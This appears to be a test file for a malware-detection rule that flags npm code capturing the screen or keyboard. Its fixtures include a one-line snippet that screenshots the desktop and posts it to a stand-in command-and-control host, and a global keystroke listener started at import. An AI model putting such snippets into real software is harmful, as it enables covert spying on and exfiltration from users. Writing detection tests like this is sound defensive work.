import { examine } from '../../../test/examine.ts';
import { capturesInput } from './captures-input.ts';

examine(capturesInput, {
  speaks: [
    {
      when: 'pictures of the screen are sent',
      files: { 'index.js': `require('screenshot-desktop')().then(i => require('axios').post('https://c2.invalid', i))` },
      weight: 'proof',
      says: ['c2.invalid'],
    },
    {
      when: 'keys are listened to at import',
      files: { 'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener'); new GlobalKeyboardListener()` },
      weight: 'weak',
    },
  ],
  silent: [
    { when: 'a prompt reads keys of its terminal', files: { 'index.js': `require('readline').emitKeypressEvents(process.stdin)` } },
    { when: 'a recorder works when called', files: { 'index.js': `exports.shot = () => require('screenshot-desktop')()` } },
  ],
});
